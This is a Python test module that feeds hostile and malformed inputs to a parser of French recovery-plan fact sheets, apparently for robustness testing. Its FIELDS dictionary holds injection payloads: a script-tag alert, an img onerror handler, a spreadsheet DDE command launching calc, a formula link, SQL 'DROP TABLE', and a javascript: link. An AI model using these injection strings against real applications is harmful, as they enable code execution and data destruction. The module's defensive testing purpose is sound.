"""Hostile texts."""

from collections.abc import Callable, Iterator
from functools import partial
from random import Random

from tests.hostile.case import Case

FICHE = """{field}Fonds friches

{field}Régie Aubrac

{field}Mende, Occitanie

{field}Structure créée en 2007 / 5 salariés
{field}Association d’insertion / 1 site

La mesure

{field}La mesure Fonds friches, dotée de 300 millions d’euros, soutient le recyclage des friches. {field}

La belle histoire

{field}La Régie Aubrac a obtenu 150 000 euros sur trois ans, en collaboration avec la coopérative Kanopé. {field}

Témoignage

{field}Vincent Gatin
{field}Directeur

« {field}Nous avions le projet, il manquait le déclic. {field}»

Pour bénéficier de cette mesure

1. Planderelance.gouv.fr{field}
2. Catégorie bénéficiaires « Entreprises »
3. Mesure « {field}Fonds friches »
"""
PLAIN = FICHE.format(field="")
FIELDS = {
    "script": "<script>alert('x')</script>",
    "markup": "</td></tr>&lt;b&gt;<img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://example.org?"&A1;"x") ',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0 ",
    "escape": "\x1b[31m\x1b]0;title\x07\x1b[2J",
    "control": "\x00\x01\x08\x7f\x85\x9f",
    "right-to-left": "\u202e\u2067abc\u2069\u202c\u200f",
    "zero-width": "\u200b\u200d\ufeff\u2060",
    "combining": "e" + "\u0301" * 200,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
    "astral": "𝕊𝕦𝕓𝕧𝕖𝕟𝕥𝕚𝕠𝕟 𐍈 ",
    "braces": "{0} {field} %s %(a)s ${x} {{}} \\n \\ ",
    "json": '"}],"amounts":[{"min":1',
    "sql": "'; DROP TABLE outcomes; -- ",
    "markdown": "[x](javascript:alert(1)) ![y](z) **_`",
    "fullwidth": "１２３ €　",
    "replacement": "\ufffd\ufffe\uffff",
    "quotes": "« “ ” \" ' ‘ ’ »",
}


def texts() -> Iterator[Case]:
    """Every hostile text."""
    yield from _encodings()
    yield from _nothing()
    yield from _sizes()
    for name, field in FIELDS.items():
        yield Case(f"field-{name}.txt", "record", _in_every_field(field))
        yield Case(f"field-{name}.md", "record", _in_every_field(field))


def _in_every_field(field: str) -> Callable[[], bytes]:
    return lambda: FICHE.replace("{field}", field).encode()


def _encodings() -> Iterator[Case]:
    for name, encoding in (
        ("utf-8", "utf-8"),
        ("utf-8-mark", "utf-8-sig"),
        ("utf-16-mark", "utf-16"),
        ("utf-16-le", "utf-16-le"),
        ("utf-16-be", "utf-16-be"),
        ("cp1252", "cp1252"),
    ):
        yield Case(f"encoding-{name}.txt", "record", partial(PLAIN.encode, encoding))
    yield Case("encoding-mojibake.txt", "record", lambda: PLAIN.encode().decode("cp1252", "replace").encode())
    yield Case("encoding-twice.txt", "record", lambda: PLAIN.encode() + PLAIN.encode("cp1252")[-200:])
    yield Case("encoding-surrogates.txt", "record", lambda: PLAIN.encode() + b"\xed\xa0\x80\xed\xb0\x80")
    yield Case("encoding-overlong.txt", "record", lambda: PLAIN.encode() + b"\xc0\xaf\xe0\x80\xaf")
    yield Case("line-ends-cr.txt", "record", lambda: PLAIN.replace("\n", "\r").encode())
    yield Case("line-ends-mixed.txt", "record", lambda: PLAIN.replace("\n", "\r\n", 9).encode())
    yield Case("line-ends-unicode.txt", "record", lambda: PLAIN.replace("\n", "\u2028").encode())
    yield Case("no-break-spaces.txt", "record", lambda: PLAIN.replace(" ", "\u00a0").encode())


def _nothing() -> Iterator[Case]:
    yield Case("empty.txt", "empty", lambda: b"")
    yield Case("empty.md", "empty", lambda: b"")
    yield Case("spaces.txt", "empty", lambda: b" \n\t\r\n" * 1000)
    yield Case("byte-order-mark.txt", "empty", lambda: b"\xef\xbb\xbf")
    yield Case("line-feeds.txt", "empty", lambda: b"\n" * 1_000_000)
    yield Case("one-letter.txt", "not_a_fiche", lambda: b"a")
    yield Case("random.txt", "undecodable", lambda: Random(1).randbytes(100_000))
    yield Case("nul.txt", "undecodable", lambda: bytes(100_000))
    yield Case("archive.txt", "wrong_type", lambda: b"PK\x03\x04" + Random(2).randbytes(50_000))
    yield Case("headings-alone.txt", "record", lambda: "La mesure\n\nLa belle histoire\n\nTémoignage\n".encode())
    yield Case("two-fiches.txt", "several_fiches", lambda: (PLAIN + PLAIN.replace("Aubrac", "Vivarais")).encode())


def _sizes() -> Iterator[Case]:
    yield Case("line-of-49-mb.txt", "too_many_characters", lambda: b"fiche " * 8_200_000)
    yield Case("line-of-51-mb.txt", "too_many_bytes", lambda: b"fiche " * 8_500_000)
    yield Case("digits.txt", "not_a_fiche", lambda: b"7" * 100_000)
    for name, text in {
        "digits": "7" * 100_000,
        "spaced-digits": "7 " * 50_000,
        "ranges": "1 à " * 25_000,
        "thousands": "000 000 " * 12_000,
        "hyphens": "vingt-" * 15_000,
        "numerals": "mille cent " * 9_000,
        "words-and": "deux et " * 12_000,
        "open-quotes": "« " * 50_000,
        "open-brackets": "[" * 50_000 + "](" * 20_000,
        "parentheses": "(" * 50_000,
        "stars": "**a " * 20_000,
        "capitals": "Aa " * 30_000,
        "one-word": "a" * 100_000,
        "euros": "€ " * 50_000,
        "commas": "Anne, " * 15_000,
        "apostrophes": "l’" * 40_000,
        "dates": "le 3 mars 2021, " * 6_000,
        "points": ". " * 40_000,
        "partners": "avec la coopérative Kanopé, " * 3_000,
    }.items():
        yield Case(f"fiche-with-{name}.txt", "record", partial(_with_story, text))
        if name in ("digits", "open-quotes", "capitals"):
            yield Case(f"fiche-with-lines-of-{name}.txt", "record", partial(_with_story, _in_lines(text)))


def _with_story(text: str) -> bytes:
    return PLAIN.replace("Kanopé. ", f"Kanopé. {text}").encode()


def _in_lines(text: str) -> str:
    return "\n".join(text[start : start + 60] for start in range(0, len(text), 60))
